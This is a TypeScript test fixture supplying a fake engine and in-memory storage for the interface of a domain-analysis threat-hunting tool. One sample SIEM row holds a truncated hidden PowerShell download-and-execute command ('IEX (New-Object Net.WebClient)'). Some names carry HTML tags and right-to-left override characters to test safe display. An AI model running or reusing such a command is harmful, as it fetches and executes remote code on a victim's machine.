import { fakeArguments, fakeExplored } from './fake-arguments';
import { fakeDomainScores, fakeFit, fakeScore } from './fake-score';
import type { ComparisonQuery, ComparisonReading } from '../../src/engine/comparison';
import type { LeavingQuery, LeavingReading } from '../../src/engine/leaving';
import type { OffTime } from '../../src/analysis/off-hours';
import type { CertaintyQuery, CertaintyReading } from '../../src/engine/certainty-reading';
import type { NewDomainsReading, OffHoursReading, RhythmsReading, TimeQuery, TimeReading } from '../../src/engine/time-reading';
import { certaintyOf } from './fake-certainty';
import { newDomainsOf, offHoursOf, rhythmsOf, timeOf } from './fake-time';
import type { Engine, ImportListener } from '../../src/engine/engine';
import type { DomainFilter, DomainPage, DomainQuery, DomainRow, Overview, ReviewChange, StudyReading } from '../../src/engine/readings';
import type { EntryQuery, ListDetail, ListPage } from '../../src/engine/list-detail';
import type { Settings } from '../../src/engine/settings';
import type { ListKind } from '../../src/labels/domain-list';
import { type ExportedFile, type Handover, handOverFile } from '../../src/handover/hand-over';
import { type SnapshotOptions } from '../../src/snapshot/redaction-levels';
import { redact } from '../../src/snapshot/redact';
import { UserError } from '../../src/base/user-error';
import type { AnalysisSummary, Storage, StoredAnalysis } from '../../src/storage/storage';
import { detailOf, emptyGroup, endlessRow, knownRows, now, steps } from './fake-data';
import { type earlierSnapshots, fakeComparison, fakeLeaving } from './fake-earlier';
import { fakeSnapshot } from './fake-snapshot';
import { fakeEntries, fakeListDetail } from './fake-lists';
import { decided, itemOf, merges, usualTenants } from './fake-review';

/** What a scene wants the engine to hold and do. */
export interface FakeWorld {
  readonly overview: Overview;
  readonly rows: readonly DomainRow[];
  /** More rows than `rows`, made as they are asked for. */
  readonly endlessCount: number;
  /** The import stops here and never ends. */
  readonly importStops: 'never' | 'underway' | 'asking' | 'asking-times';
  /** Whether files can be read again. */
  readonly holdsFiles: boolean;
  readonly importFails: boolean;
  /** What lists hold was made to break pages. */
  readonly holdsHostileLists: boolean;
  readonly readingsFail: boolean;
  /** What two analysts decided. */
  readonly merge: keyof typeof merges;
  /** What arguments do, and what labels say of the score. */
  readonly argumentsAre: 'usual' | 'none' | 'hostile';
  readonly labelsAre: 'usual' | 'few' | 'none';
  /** What the analysis is compared with. */
  readonly earlier: keyof typeof earlierSnapshots | 'none';
}

/** An engine that holds fixed readings: enough for every view to be drawn and pressed. */
export class FakeEngine implements Engine {
  #overview: Overview;

  constructor(readonly world: FakeWorld) {
    this.#overview = { ...world.overview, isCompared: world.earlier !== 'none' };
  }

  async importFiles(files: readonly File[], listener: ImportListener): Promise<Overview> {
    const bytesTotal = 1_284_118_004;
    const progress = (bytesRead: number, records: number) =>
      listener.onProgress({ bytesRead, bytesTotal, records, file: files[0]?.name ?? '', filesDone: 1, filesTotal: 4 });
    if (this.world.importStops === 'underway') {
      progress(0, 0);
      await new Promise((resolve) => setTimeout(resolve, 900));
      progress(541_220_118, 1_301_442);
      return new Promise(() => undefined);
    }
    if (this.world.importStops === 'asking') {
      const header = ['Zeit', 'Rechner', 'Ziel <b>', 'Befehl', '', 'Anzahl'];
      const row = ['2024-06-01 08:12:44', 'WS-0417', 'raw.githubusercontent.com', '-nop -w hidden -c "IEX (New-Object Net.WebClient)…"', 'x\u202ey', '3'];
      await listener.askMapping({ fileName: 'export aus dem SIEM.csv', header, rows: Array.from({ length: 12 }, () => row), guess: { time: 0, host: 1, destination: 2, count: 5 } });
    }
    if (this.world.importStops === 'asking-times') {
      const files = [{ name: 'query_data.csv', sample: '6/7/2024, 8:12:44.120 AM' }, { name: 'events \u202e<b>.csv', sample: '07/06/2024 23:11' }];
      await listener.askTimes({ files, asks: { zone: true, dayOrder: true } });
    }
    if (this.world.importFails) throw new Error('the reader fell over on purpose');
    return this.#overview;
  }

  readAgain(): Promise<Overview> {
    return this.overview();
  }

  holds(): boolean {
    return this.world.holdsFiles;
  }

  cancelImport(): void {}

  async overview(): Promise<Overview> {
    return this.#overview;
  }

  async study(id: string): Promise<StudyReading> {
    if (this.world.readingsFail) throw new UserError('LimitReached', 'The study: more domains than this page can hold.');
    const group = this.#overview.groups.find((one) => one.id === id) ?? emptyGroup;
    const rows = group.baseDomains === 0 ? [] : this.world.rows;
    return {
      group,
      distribution: { connections: steps(group.baseDomains === 0 ? 2 : 180, 2_282_308), meanPerFqdn: steps(group.baseDomains === 0 ? 2 : 140, 163_022) },
      topDomains: rows.toSorted((a, b) => b.connections - a.connections).slice(0, 10),
      lookFirst: rows.toSorted((a, b) => b.score - a.score).slice(0, 10),
    };
  }

  async domains(query: DomainQuery): Promise<DomainPage> {
    const { endlessCount } = this.world;
    if (endlessCount > 0 && query.search === '') {
      const length = Math.max(0, Math.min(query.limit, endlessCount - query.offset));
      return { total: endlessCount, matching: endlessCount, offset: query.offset, rows: Array.from({ length }, (_, index) => endlessRow(query.offset + index)) };
    }
    const rows = this.world.rows
      .filter((row) => row.baseDomain.includes(query.search))
      .filter((row) => query.rarity === 'all' || row.rare === (query.rarity === 'rare'))
      .filter((row) => query.verdict === 'all' || (query.verdict === 'mixed' ? row.judgement.mixed : row.judgement.verdict === query.verdict))
      .toSorted((a, b) => (query.descending ? -1 : 1) * compare(a, b, query));
    return { total: this.world.rows.length, matching: rows.length, offset: query.offset, rows: rows.slice(query.offset, query.offset + query.limit) };
  }

  async domain(_group: string, baseDomain: string) {
    const row = [...this.world.rows, ...knownRows].find((one) => one.baseDomain === baseDomain) ?? endlessRow(0);
    const detail = detailOf(row);
    return this.#overview.basis === 'snapshot' ? { ...detail, hosts: null, users: null, arguments: [], argumentsCount: 0 } : detail;
  }

  async certainty(query: CertaintyQuery): Promise<CertaintyReading> {
    const { groups, settings } = this.#overview;
    return certaintyOf(groups.find(({ id }) => id === query.group) ?? emptyGroup, groups, settings.rarityThreshold, query);
  }

  async time(query: TimeQuery): Promise<TimeReading | null> {
    return this.#overview.basis === 'snapshot' ? null : timeOf(query, this.world.rows);
  }

  async offHours(_group: string, offTime: OffTime): Promise<OffHoursReading | null> {
    return this.#overview.basis === 'snapshot' ? null : offHoursOf(offTime, this.world.rows);
  }

  async newDomains(_group: string, since: number): Promise<NewDomainsReading> {
    return newDomainsOf(since, this.world.rows);
  }

  async rhythms(): Promise<RhythmsReading | null> {
    return this.#overview.basis === 'snapshot' ? null : rhythmsOf(this.world.rows);
  }

  async setSettings(settings: Settings): Promise<Overview> {
    return (this.#overview = { ...this.#overview, settings });
  }

  async setFilter(filter: Overview['filter']): Promise<Overview> {
    return (this.#overview = { ...this.#overview, filter });
  }

  async rename(name: string): Promise<void> {
    this.#overview = { ...this.#overview, name };
  }

  async gatherEvidence() {
    return null;
  }

  async argumentsOf() {
    return fakeArguments(this.#overview.basis === 'snapshot' ? 'snapshot' : this.world.argumentsAre);
  }

  async exploreArguments() {
    return fakeExplored(this.world.argumentsAre);
  }

  async ruleFault() {
    return 'Our tool: the pattern cannot be read: missing closing ): `(`';
  }

  async score() {
    return fakeScore(this.world.labelsAre);
  }

  async fittedWeights() {
    return fakeFit(this.world.labelsAre);
  }

  async domainScores(_group: string, baseDomain: string) {
    return fakeDomainScores(baseDomain);
  }

  async reviewQueue({ search, rarity }: DomainFilter) {
    const domains = this.world.rows.filter((row) => row.baseDomain.includes(search) && (rarity === 'all' || row.rare === (rarity === 'rare'))).map((row) => row.baseDomain);
    return { domains, matching: domains.length };
  }

  async reviewItem(group: string, baseDomain: string) {
    return itemOf(await this.domain(group, baseDomain), this.#overview.basis === 'snapshot');
  }

  async rareTenants() {
    return this.world.overview.contacts === 0 ? { tenants: [], count: 0 } : usualTenants;
  }

  async names(filter: DomainFilter) {
    return (await this.reviewQueue(filter)).domains;
  }

  async merge() {
    return merges[this.world.merge];
  }

  async takeDecisions(): Promise<Overview> {
    return this.#overview;
  }

  async review(changes: readonly ReviewChange[]) {
    for (const { verdict, ...change } of changes) {
      const others = this.#overview.reviews.filter((one) => one.level !== change.level || one.domain !== change.domain || one.arguments !== change.arguments);
      this.#overview = { ...this.#overview, reviews: verdict === null ? others : [...others, { ...change, verdict, at: now, author: '' }] };
    }
    return decided(changes);
  }

  async reviews() {
    return this.#overview.reviews;
  }

  async removeList(id: string): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.#overview.lists.filter((list) => list.id !== id) });
  }

  async restoreList(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.world.overview.lists });
  }

  async setListKind(id: string, kind: ListKind): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.#overview.lists.map((list) => (list.id === id ? { ...list, kind } : list)) });
  }

  async allow(): Promise<Overview> {
    return this.#overview;
  }

  async setListEntry(): Promise<Overview> {
    return this.#overview;
  }

  async listEntries(query: EntryQuery): Promise<ListPage> {
    return fakeEntries(query, this.world.holdsHostileLists);
  }

  async listDetail(id: string): Promise<ListDetail | null> {
    return fakeListDetail(id, this.world.holdsHostileLists);
  }

  async exportFile(wanted: Handover, options: SnapshotOptions): Promise<ExportedFile> {
    return handOverFile(redact(fakeSnapshot(this.#overview, this.world.rows), options), wanted);
  }

  async exportSnapshot(): Promise<Blob> {
    return new Blob(['{}']);
  }

  async leaving(options: SnapshotOptions, query: LeavingQuery): Promise<LeavingReading> {
    return fakeLeaving(this.#overview, this.world.rows, options, query);
  }

  async comparison(query: ComparisonQuery): Promise<ComparisonReading | null> {
    const { earlier, rows } = this.world;
    return earlier === 'none' ? null : fakeComparison(this.#overview, rows, earlier, query);
  }

  async exportComparison(): Promise<Blob> {
    return new Blob(['']);
  }

  async removeEarlier(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, isCompared: false });
  }

  async restoreEarlier(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, isCompared: true });
  }

  async keep() {
    return { events: null, labels: new Blob(['{}']), decisions: [], overview: this.#overview };
  }

  takeKept(): Promise<Overview> {
    return this.open();
  }

  async open(): Promise<Overview> {
    return this.#overview;
  }

  async clear(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, contacts: 0, groups: [], receipts: [], lists: [], reviews: [] });
  }
}

function compare(a: DomainRow, b: DomainRow, { sort }: DomainQuery): number {
  const [x, y] = sort === 'verdict' ? [a.judgement.verdict, b.judgement.verdict] : [a[sort] ?? 0, b[sort] ?? 0];
  return x < y ? -1 : x > y ? 1 : 0;
}

/** A storage in memory, with some analyses in it. */
export function fakeStorage(kind: 'kept' | 'memory', summaries: readonly AnalysisSummary[], full = false): Storage {
  let kept = [...summaries];
  let removed: AnalysisSummary | undefined;
  return {
    kind,
    list: async () => kept,
    load: async (id) => {
      const summary = kept.find((one) => one.id === id);
      return summary ? ({ ...summary, events: null, labels: new Blob(['{}']) } as unknown as StoredAnalysis) : null;
    },
    save: async (analysis) => {
      if (full) throw new UserError('StorageFailed', 'The browser has no room left for this page.');
      kept = [...kept.filter((one) => one.id !== analysis.id), analysis];
    },
    rename: async (id, name) => {
      kept = kept.map((one) => (one.id === id ? { ...one, name } : one));
    },
    remove: async (id) => {
      removed = kept.find((one) => one.id === id);
      kept = kept.filter((one) => one.id !== id);
    },
    restore: async () => {
      if (removed) kept = [...kept, removed];
    },
    mapping: async () => null,
    rememberMapping: async () => undefined,
    addDecisions: async () => {
      if (full) throw new UserError('StorageFailed', 'The browser has no room left for this page.');
    },
    setSums: async () => undefined,
    decisions: async () => [],
    preference: async () => null,
    setPreference: async () => undefined,
  };
}

export const keptSummaries: readonly AnalysisSummary[] = [
  { id: 'a1', name: 'Acme, June to December 2024', createdAt: now - 9 * 86_400_000, modifiedAt: now - 86_400_000, contacts: 3_220_829, reviewed: 37, malicious: 10, basis: 'events' },
  { id: 'a2', name: 'Lab 4104 test', createdAt: now - 40 * 86_400_000, modifiedAt: now - 12 * 86_400_000, contacts: 8_114, reviewed: 0, malicious: 0, basis: 'events' },
  { id: 'a3', name: 'From Kim: \u202e<b>weird</b> name that goes on and on and on until it has to be cut somewhere', createdAt: now - 86_400_000, modifiedAt: now - 7_200_000, contacts: 0, reviewed: 12, malicious: 4, basis: 'snapshot' },
];
